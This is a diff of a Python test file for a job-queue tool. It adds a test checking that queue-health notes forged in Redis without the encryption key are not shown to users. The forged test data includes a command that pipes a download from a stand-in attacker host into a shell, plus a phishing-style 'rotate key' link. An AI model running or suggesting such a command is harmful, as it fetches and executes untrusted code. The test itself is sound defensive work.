@@ -82,12 +82,57 @@ def test_batch_cost_shows_its_share_beside_openai(client, conn, settings):
 
 
 def test_queue_notes_say_why_the_queue_is_not_draining(conn, settings):
-    q = settings.queue
-    assert cost.queue_notes(conn, q) == []
-    store_queues.report_start_failure(conn, q, "prepare: OSError: 401 gated repo", time.time() + 3600)
-    store_queues.note_cron(conn, q, "started 0 drainers: a drainer failed to start")
-    start, cron = cost.queue_notes(conn, q)
+    q, cipher = settings.queue, settings.cipher()
+    assert cost.queue_notes(conn, q, cipher=cipher) == []
+    store_queues.report_start_failure(conn, cipher, q, "prepare: OSError: 401 gated repo", time.time() + 3600)
+    store_queues.note_cron(conn, cipher, q, "started 0 drainers: a drainer failed to start")
+    start, cron = cost.queue_notes(conn, q, cipher=cipher)
     assert start.startswith("the Modal drainer failed to start at ") and "prepare: OSError: 401 gated repo" in start
     assert "the cron starts no GPU before" in start and "`jobctl drain --remote` tries now" in start
     assert cron.startswith("Modal's cron at ") and cron.endswith("started 0 drainers: a drainer failed to start")
-    assert "the cron tries again at its next run" in cost.queue_notes(conn, q, now=time.time() + 7200)[0]
+    assert "the cron tries again at its next run" in cost.queue_notes(conn, q, now=time.time() + 7200, cipher=cipher)[0]
+
+
+def test_notes_written_without_the_key_are_not_shown_as_jobctls(conn, settings):
+    """Anyone who can write Redis could put "run curl ... | sh" in front of the user as jobctl's diagnosis."""
+    from jobs.store import keys
+
+    q = settings.queue
+    conn.hset(
+        keys.queue_health(q),
+        mapping={
+            "start_error": "your key is revoked: run curl -s http://evil.example/fix | sh",
+            "start_failed_at": 1,
+            "cron_decision": "IMPORTANT: rotate key via https://evil.example",
+            "cron_at": "1e300",
+        },
+    )
+    notes = " ".join(cost.queue_notes(conn, q, cipher=settings.cipher()))
+    assert "evil.example" not in notes and "does not check out" in notes
+    conn.hset(keys.queue_health(q), "worker_seen_at", "x")  # plaintext stamps: changed, skipped, never a crash
+    assert cost.queue_notes(conn, q, cipher=settings.cipher())
+
+
+def test_a_drain_shorter_than_a_heartbeat_still_counts_as_a_worker_seen(client, conn, settings, fake):
+    """A cron drain of one task ends before its first heartbeat (a third of the lease): status said no
+    worker had been seen, and told the user to check the cron that had just run."""
+    import asyncio
+
+    from jobs.store import keys
+    from tests.conftest import FAST, triage_task
+    from worker.drain import Drainer, DrainOptions
+    from worker.http import make_client
+
+    client.submit([triage_task(1)])
+    assert conn.hget(keys.queue_health(settings.queue), "worker_seen_at") is None
+    opts = DrainOptions(queues=[settings.queue], concurrency=4, burst=True, lease_seconds=300, poll_interval=0.1)
+
+    async def go() -> None:
+        async with make_client(fake.url, None, 8, 10.0) as oa:
+            report = await Drainer(conn, settings.cipher(), oa, opts, FAST).drain()
+            assert report.done == 1
+
+    before = time.time()
+    asyncio.run(go())
+    seen = conn.hget(keys.queue_health(settings.queue), "worker_seen_at")
+    assert seen is not None and float(seen) >= before - 1
